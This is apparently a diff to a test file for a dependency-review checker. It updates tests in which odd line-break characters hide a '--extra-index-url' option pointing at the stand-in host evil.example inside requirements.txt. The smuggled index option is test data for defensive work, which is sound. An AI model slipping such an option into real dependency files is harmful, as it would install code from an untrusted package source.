@@ -23,7 +23,8 @@ describe('attack: an index option after a line break only pip sees', () => {
   test.each(['\r', '\f', '\v', '\u2028', '\x85', '\x1c'])('a %j before --extra-index-url', (sep) => {
     const head = `requests==2.31.0${sep}--extra-index-url https://evil.example/simple\n`;
     const f = reviewDependencyChange('requirements.txt', 'requests==2.31.0\n', head, ['pypi.org', 'files.pythonhosted.org']);
-    expect(f.map((x) => x.code)).toEqual(['python_index']);
-    expect(f[0]!.message).toContain('host "evil.example" is not in the network allow list');
+    // The source rule denies the host; the file's own rule says what the setting is.
+    expect(f.map((x) => x.code)).toEqual(['dependency_host_not_allowed', 'python_index']);
+    expect(f.find((x) => x.code === 'python_index')!.message).toContain('host "evil.example" is not in the network allow list');
   });
 });
